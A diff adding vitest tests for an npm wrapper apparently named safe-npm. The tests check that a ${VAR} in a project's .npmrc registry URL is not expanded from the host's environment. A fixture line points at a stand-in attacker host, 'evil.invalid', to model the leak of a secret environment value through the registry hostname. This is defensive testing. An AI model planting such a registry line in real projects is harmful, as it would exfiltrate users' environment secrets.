@@ -11,7 +11,7 @@
  *   prepublishOnly script cannot take the run's one upload to another path on the same host,
  *   nor put another tarball under the package's name.
  */
-import { existsSync, readFileSync, writeFileSync } from "node:fs";
+import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { gunzipSync } from "node:zlib";
 import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
@@ -171,6 +171,35 @@ describe.skipIf(unavailable !== "")(
     }, 180_000);
   },
 );
+
+// biome-ignore lint/suspicious/noTemplateCurlyInString: `${VAR}` is npmrc syntax
+describe.skipIf(unavailable !== "")("a ${VAR} in the project's registry URL", () => {
+  const SECRET = "topsecretvalue123";
+  const worlds: World[] = [];
+  afterAll(() => {
+    for (const w of worlds) w.dispose();
+  });
+  /** Everything the run left that names hosts: its output and the certificate cache. */
+  const traces = async (userNpmrc: string | null): Promise<string> => {
+    const world = makeWorld({ projectInHome: true });
+    worlds.push(world);
+    const line = `@x:registry=https://\${HOST_PART}.evil.invalid:4801/\n`;
+    writeFileSync(join(world.project, ".npmrc"), `${line}${QUIET}`);
+    if (userNpmrc !== null) writeFileSync(join(world.home, ".npmrc"), `${line}${userNpmrc}`);
+    const run = await world.run(["--verbose", "install"], { env: { HOST_PART: SECRET } });
+    const leaves = join(world.home, ".local", "state", "safe-npm", "ca", "leaves");
+    const cached = existsSync(leaves) ? readdirSync(leaves).join("\n") : "";
+    return `${run.stdout}\n${run.stderr}\n${cached}`;
+  };
+
+  it("is not expanded with the host's environment: the value is in no output and no cached certificate", async () => {
+    expect(await traces(null)).not.toContain(SECRET);
+  }, 180_000);
+
+  it("control: the same line in the user's ~/.npmrc is expanded, and --verbose shows the host", async () => {
+    expect(await traces(QUIET)).toContain(SECRET);
+  }, 180_000);
+});
 
 describe.skipIf(unavailable !== "")(
   "the user's token and the one upload stay under the registry's path",
